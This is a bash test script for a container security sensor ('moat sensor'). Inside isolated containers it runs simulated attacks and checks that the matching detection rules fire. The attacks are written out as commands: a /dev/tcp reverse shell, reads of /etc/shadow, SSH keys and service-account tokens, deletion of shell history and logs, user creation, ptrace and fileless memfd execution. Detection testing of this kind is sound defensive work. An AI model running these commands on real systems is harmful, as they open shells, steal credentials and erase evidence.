@@ -1,0 +1,218 @@
+#!/usr/bin/env bash
+# Attack tests of `moat sensor` with its built-in rules (docs/sensor.md "Built-in rules"): as
+# root, on a private dockerd (tests/lib/dockerd.sh), each attack runs in a container of its own
+# (the image: a debootstrap bookworm with python3, curl, netcat, gcc, plus a few planted files)
+# while the sensor runs, and the set of rules the container raised must be exactly the expected
+# set, each alert with the container's id and image, the seed alert type and MITRE tactics. A
+# benign container (a loop of ordinary commands, a web server under load, a gcc compile, a
+# logrotate-like rename and compress) must raise nothing. The in-use file must list the
+# container's executables and libraries, and /metrics must answer. Where BPF cannot load the
+# test says why and exits 77 (ctest: skipped).
+# Usage: tests/sensor_attacks_test.sh PATH/TO/moat   Env: MOAT_TEST_KEEP=1 keeps the work dir.
+set -uo pipefail
+
+HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
+for lib in common rootfs dockerd sensor; do
+  # shellcheck source=/dev/null
+  source "$HERE/lib/$lib.sh"
+done
+[ $# -eq 1 ] || { echo "usage: $0 PATH/TO/moat" >&2; exit 2; }
+
+passed=0 failed=0
+failures=()
+pass() { passed=$((passed + 1)); echo "PASS $1${2:+: $2}"; }
+fail() { failed=$((failed + 1)); failures+=("$1"); echo "FAIL $1${2:+: $2}"; }
+finish() {
+  echo
+  [ ${#failures[@]} -eq 0 ] || { echo "failed checks:"; printf '  %s\n' "${failures[@]}"; }
+  echo "sensor attacks: $passed passed, $failed failed"
+  [ "$failed" -eq 0 ]
+}
+
+start_sensor_test sensor-attacks "$1"
+
+# ---- The engine and the image ------------------------------------------------------------------
+ROOTFS_TAR=$(bookworm_rootfs_tar sensor "python3,curl,netcat-openbsd,gcc,libc6-dev,procps") ||
+  { fail setup "debootstrap of bookworm (+python3, curl, netcat, gcc) failed"; finish; exit 1; }
+ENGINE=$WORK/engine
+mkdir -p "$ENGINE"
+start_private_dockerd "$ENGINE" || { fail setup "private dockerd did not start"; finish; exit 1; }
+docker import --change 'CMD ["sleep", "infinity"]' "$ROOTFS_TAR" moat-sensor/attack-base:1 \
+  >/dev/null || { fail setup "docker import failed"; finish; exit 1; }
+# Files the attacks use, planted in a layer of the image (so that running them is not drift): a
+# "miner" (python3 under xmrig's name), an SSH key, a shell history and an application log.
+docker run --name moat-prep moat-sensor/attack-base:1 sh -c '
+  cp /usr/bin/python3 /usr/local/bin/xmrig &&
+  mkdir -p /root/.ssh && echo "-----BEGIN OPENSSH PRIVATE KEY----- test" >/root/.ssh/id_rsa &&
+  chmod 600 /root/.ssh/id_rsa && echo "ls" >/root/.bash_history &&
+  echo "started" >/var/log/app.log &&
+  printf "#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n" >/root/hello.c' &&
+  docker commit moat-prep moat-sensor/attack:1 >/dev/null && docker rm moat-prep >/dev/null ||
+  { fail setup "preparing the attack image failed"; finish; exit 1; }
+IMAGE=moat-sensor/attack:1
+echo "token-of-the-test-service-account" >"$WORK/token"
+
+# ---- The sensor --------------------------------------------------------------------------------
+ALERTS=$WORK/alerts.jsonl
+METRICS_PORT=$(free_port)
+cat >"$WORK/sensor.yaml" <<YAML
+ringBufferMiB: 16
+statsInterval: 5
+dockerSocket: $ENGINE/docker.sock
+YAML
+"$MOAT" sensor --config "$WORK/sensor.yaml" -o "$ALERTS" --metrics-listen "127.0.0.1:$METRICS_PORT" \
+  --in-use "$WORK/in-use.json" --in-use-interval 2 2>"$WORK/sensor.err" &
+SENSOR_PID=$!
+push_cleanup "stop_pid $SENSOR_PID 10"
+if ! wait_until 60 grep -q "sensor: attached" "$WORK/sensor.err"; then
+  cat "$WORK/sensor.err"
+  fail setup "moat sensor did not attach"
+  finish
+  exit 1
+fi
+pass attach "$(grep -m1 'rules enabled' "$WORK/sensor.err")"
+
+# ---- The attacks -------------------------------------------------------------------------------
+# attack NAME "EXPECTED RULES|..." SCRIPT [docker run flags...]: runs SCRIPT with bash in a new
+# container NAME of the image and records what it expects.
+declare -A EXPECTED CIDS
+attack() {
+  local name=$1 expected=$2 script=$3 cid
+  shift 3
+  if ! cid=$(docker run -d --name "moat-atk-$name" "$@" "$IMAGE" sleep infinity 2>"$WORK/$name.err"); then
+    # A private engine in its own namespaces cannot always give a container the host's devices
+    # (--privileged); that case is reported, not failed.
+    if [ "$name" = privileged ]; then
+      echo "SKIP $name: the private engine refused --privileged: $(tail -c 300 "$WORK/$name.err")"
+    else
+      fail "$name" "docker run failed: $(tail -c 300 "$WORK/$name.err")"
+    fi
+    return
+  fi
+  CIDS[$name]=$cid
+  EXPECTED[$name]=$expected
+  timeout 120 docker exec "moat-atk-$name" bash -c "$script" >"$WORK/$name.out" 2>&1 || true
+}
+
+# A loopback listener for the connections below: accepts one client, sends it commands, prints
+# what comes back.
+LISTENER='import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(30)
+open("/tmp/ready", "w").close()
+c, _ = s.accept(); c.settimeout(5); c.sendall(b"id\nexit\n")
+try:
+    print(c.recv(4096))
+except OSError:
+    pass'
+
+attack reverse_shell "Moat Reverse Shell" "
+  python3 -c '$LISTENER' 4711 & for i in \$(seq 50); do [ -e /tmp/ready ] && break; sleep 0.1; done
+  bash -c 'exec 3<>/dev/tcp/127.0.0.1/4711; sh <&3 >&3 2>&3'; wait"
+attack drift "Moat Drift Executable Not From Image" \
+  "cp /usr/bin/true /usr/local/bin/dropped && chmod +x /usr/local/bin/dropped && /usr/local/bin/dropped"
+attack credentials "Moat Password File Read|Moat SSH Key Access" \
+  "cat /etc/shadow >/dev/null; cat /root/.ssh/id_rsa >/dev/null"
+attack history_and_logs "Moat Shell History Cleared|Moat System Log Removed" \
+  "rm -f /root/.bash_history; rm -f /var/log/app.log"
+attack useradd "Moat User Added" "useradd -m eve"
+attack miner "Moat Miner Executed|Moat Miner Pool Connection" "
+  python3 -c '$LISTENER' 3333 & for i in \$(seq 50); do [ -e /tmp/ready ] && break; sleep 0.1; done
+  xmrig -c 'import socket; socket.create_connection((\"127.0.0.1\", 3333)).recv(100)'; wait"
+attack unshare "Moat Namespace Created In Container" "unshare --uts true" \
+  --cap-add SYS_ADMIN --security-opt seccomp=unconfined
+attack ptrace "Moat Ptrace Attach In Container" "python3 -c '
+import ctypes, subprocess
+child = subprocess.Popen([\"sleep\", \"5\"])
+libc = ctypes.CDLL(None, use_errno=True)
+print(\"attach\", libc.ptrace(16, child.pid, None, None), ctypes.get_errno())
+child.kill()'"
+attack privileged "Moat Privileged Container Started|Moat Command In Privileged Container" "id" \
+  --privileged
+attack package_manager "Moat Package Manager Run In Container" "timeout 30 apt-get update"
+attack netcat_listener "Moat Netcat Listener" "timeout 1 nc -l 9001"
+attack token "Moat Service Account Token Read" \
+  "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null" \
+  -v "$WORK/token:/var/run/secrets/kubernetes.io/serviceaccount/token:ro"
+attack fileless "Moat Fileless Execution" "python3 -c '
+import os
+fd = os.memfd_create(\"payload\")
+os.write(fd, open(\"/usr/bin/true\", \"rb\").read())
+os.execv(\"/proc/self/fd/%d\" % fd, [\"payload\"])'"
+attack eicar "Moat EICAR Test Program|Moat Drift Executable Not From Image|Moat Executable In Temporary Directory" \
+  "cp /usr/bin/echo /tmp/asc_alerttest_662jfi039n && /tmp/asc_alerttest_662jfi039n testing eicar pipe"
+
+# The benign set: what a container does every day raises nothing.
+attack benign "" '
+  for i in $(seq 30); do
+    ls / >/dev/null; cat /etc/hostname >/dev/null; date >/dev/null; ps aux >/dev/null
+    grep root /etc/passwd >/dev/null; sed -n 1p /etc/os-release >/dev/null; id >/dev/null
+    echo "line $i" >>/tmp/work.log; sort /tmp/work.log | uniq >/tmp/work.sorted
+  done
+  python3 -m http.server 8000 --bind 127.0.0.1 --directory /usr/share/doc >/dev/null 2>&1 &
+  for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done
+  for i in $(seq 300); do curl -s -o /dev/null http://127.0.0.1:8000/; done
+  kill %1
+  gcc -O2 -o /root/hello /root/hello.c
+  mv /var/log/app.log /var/log/app.log.1 && touch /var/log/app.log && gzip /var/log/app.log.1'
+
+# ---- Checks ------------------------------------------------------------------------------------
+# The alerts are written as they come; give the last ones a moment, then stop the sensor.
+sleep 3
+curl -sf "http://127.0.0.1:$METRICS_PORT/metrics" >"$WORK/metrics.txt" &&
+  grep -q '^moat_sensor_rules_enabled [1-9]' "$WORK/metrics.txt" &&
+  grep -q '^moat_sensor_kernel_drops_total 0$' "$WORK/metrics.txt" &&
+  curl -sf "http://127.0.0.1:$METRICS_PORT/healthz" >/dev/null &&
+  pass metrics "$(grep -E '^moat_sensor_(rule_alerts_total|kernel_events_total|events_per_second) ' "$WORK/metrics.txt" | tr '\n' ' ')" ||
+  fail metrics "/metrics or /healthz did not answer as expected"
+kill -TERM "$SENSOR_PID"
+wait "$SENSOR_PID"
+rc=$?
+[ "$rc" = 0 ] && pass sigterm "exit 0" || fail sigterm "exit $rc"
+
+for name in "${!EXPECTED[@]}"; do
+  result=$(python3 - "$ALERTS" "${CIDS[$name]}" "$IMAGE" "${EXPECTED[$name]}" <<'PY'
+import json, sys
+path, cid, image, expected = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
+expected = set(filter(None, expected.split("|")))
+rules, problems = set(), []
+for line in open(path, errors="replace"):
+    a = json.loads(line)
+    c = a.get("container", {})
+    if c.get("id") != cid[:12]:
+        continue
+    rules.add(a["rule"])
+    if c.get("image") != image or not c.get("name"):
+        problems.append(f"{a['rule']}: container {c}")
+    if not any(t.startswith(("K8S.NODE_", "VM_")) for t in a["tags"]):
+        problems.append(f"{a['rule']}: no seed alert type in {a['tags']}")
+    if not a.get("mitre") or not all(m.get("tactic") for m in a["mitre"]):
+        problems.append(f"{a['rule']}: mitre {a.get('mitre')}")
+    if not a.get("proc", {}).get("pid") or "cmdline" not in a["proc"]:
+        problems.append(f"{a['rule']}: proc {a.get('proc')}")
+if rules != expected:
+    problems.append(f"raised {sorted(rules)}, expected {sorted(expected)}")
+print("; ".join(problems) if problems else ", ".join(sorted(rules)) or "no alerts")
+sys.exit(1 if problems else 0)
+PY
+  ) && pass "attack_$name" "$result" || fail "attack_$name" "$result (output: $(head -c 300 "$WORK/$name.out"))"
+done
+
+# In use: the drift container ran /usr/local/bin/dropped and cp; the benign one gcc, and its
+# long-lived processes mapped libc.
+python3 - "$WORK/in-use.json" "${CIDS[benign]}" <<'PY' && pass in_use || fail in_use "see above"
+import json, sys
+doc = json.load(open(sys.argv[1]))
+assert doc["format"] == "moat-in-use/1", doc.get("format")
+by_id = {c["id"]: c for c in doc["containers"]}
+c = by_id.get(sys.argv[2])
+assert c, f"benign container missing among {list(by_id)}"
+assert any(e.endswith("gcc-12") for e in c["executables"]), c["executables"]  # gcc -> gcc-12
+assert "/usr/bin/curl" in c["executables"], c["executables"]
+assert any("libc.so" in lib for lib in c["libraries"]), c["libraries"][:20]
+assert c["image"] == "moat-sensor/attack:1", c["image"]
+print("benign:", len(c["executables"]), "executables,", len(c["libraries"]), "libraries")
+PY
+last=$(grep "sensor at exit" "$WORK/sensor.err" | tail -n 1)
+[[ "$last" == *"drops 0,"* ]] && pass no_drops "$last" || fail no_drops "${last:-no counters line}"
+finish
